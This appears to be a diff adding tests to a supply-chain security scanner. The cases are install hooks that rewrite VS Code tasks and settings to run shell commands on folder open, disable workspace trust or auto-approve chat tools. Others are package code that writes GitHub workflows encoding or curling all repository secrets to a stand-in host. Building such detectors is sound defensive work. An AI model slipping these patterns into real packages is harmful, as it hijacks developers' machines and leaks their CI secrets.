@@ -41,6 +41,86 @@ def test_what_a_hook_writes(path: str, text: str, dangerous: bool, scan: Callabl
     assert scan(files).dangerous is dangerous
 
 
+_READ = (
+    "let all = { version: '2.0.0', tasks: [] };\ntry { all = JSON.parse(fs.readFileSync(file, 'utf8')); } catch {}\n"
+)
+_TASK = f"{{ label: 'lint', type: 'shell', command: '{_PIPE}' }}"
+_QUIET = "{ label: 'types', type: 'npm', script: 'types', runOptions: { runOn: 'folderOpen' } }"
+
+
+@pytest.mark.parametrize(
+    ("name", "change", "dangerous"),
+    [
+        ("tasks", f"all.tasks.push({_TASK});", True),
+        ("tasks", f"all.tasks.unshift({_TASK});", True),
+        ("tasks", f"all.tasks = [...all.tasks, {_TASK}];", True),
+        ("tasks", f"all.tasks[0] = {_TASK};", True),
+        ("tasks", f"all.tasks.push({_QUIET});\nall.tasks.push({_TASK});", True),
+        (
+            "tasks",
+            "all.tasks.push({ type: 'shell', command: 'node .vscode/a.js', runOptions: { runOn: 'folderOpen' } });",
+            True,
+        ),
+        ("tasks", f"all.tasks.push({_QUIET});", False),
+        ("settings", "all['task.allowAutomaticTasks'] = 'on';", True),
+        ("settings", "all['security.workspace.trust.enabled'] = false;", True),
+        ("settings", "Object.assign(all, { a: 1 });\nall['chat.tools.autoApprove'] = true;", True),
+        ("settings", "all['security.workspace.trust.enabled'] = true;", False),
+        ("settings", "all['editor.formatOnSave'] = true;\nall['task.allowAutomaticTasks'] = 'off';", False),
+    ],
+)
+@pytest.mark.parametrize("written", ["JSON.stringify(all, null, 2)", "text"])
+def test_what_a_hook_adds_to_settings(
+    *, name: str, change: str, written: str, dangerous: bool, scan: Callable[..., Outcome]
+) -> None:
+    """What is put into an object that was read before counts as much as what is written in full."""
+    code = (
+        "const fs = require('fs'), path = require('path');\n"
+        f"const file = path.join(process.env.INIT_CWD, '.vscode', '{name}.json');\n"
+        f"{_READ}{change}\nconst text = JSON.stringify(all, null, 2);\nfs.writeFileSync(file, {written});"
+    )
+    files = {"package.json": {"name": "sample", "scripts": {"postinstall": "node set.js"}}, "set.js": code}
+    assert scan(files).dangerous is dangerous
+
+
+@pytest.mark.parametrize(
+    ("step", "dangerous"),
+    [
+        ("echo '${{ toJSON(secrets) }}' | base64 -w0 | base64 -w0", True),
+        ('curl -d "$ALL" https://e.invalid/ # ${{ toJSON( secrets ) }}', True),
+        ("npm publish # ${{ secrets.NPM_TOKEN }}", False),
+        ("./deploy.sh '${{ toJSON(secrets) }}'", False),
+    ],
+)
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        (
+            "index.js",
+            (
+                "const fs = require('fs'), path = require('path');\nexports.add = (root, name) => {\n"
+                "  const file = path.join(root, '.github', 'workflows', name + '.yml');\n"
+                "  fs.writeFileSync(file, ['on: push', 'jobs:', `      - run: %s`].join('\\n'));\n};"
+            ),
+        ),
+        (
+            "sample/__init__.py",
+            (
+                "from pathlib import Path\ndef add(root):\n"
+                '    Path(\'.github/workflows/a.yml\').write_text(\'on: push\\n\' + r"""      - run: %s""")\n'
+            ),
+        ),
+    ],
+)
+def test_a_workflow_that_gives_all_secrets_away(
+    *, step: str, dangerous: bool, path: str, code: str, scan: Callable[..., Outcome]
+) -> None:
+    """Who writes a workflow that sends or encodes all secrets of a repository is no tool, whenever it does so."""
+    step = step.replace("${{", "\\${{") if path.endswith(".js") else step
+    told = {"ecosystem": Ecosystem.PYPI, "archive": "sample-1.0.0-py3-none-any.whl"} if path.endswith(".py") else {}
+    assert scan({path: code % step}, **told).dangerous is dangerous
+
+
 @pytest.mark.parametrize(
     ("command", "path", "text"),
     [
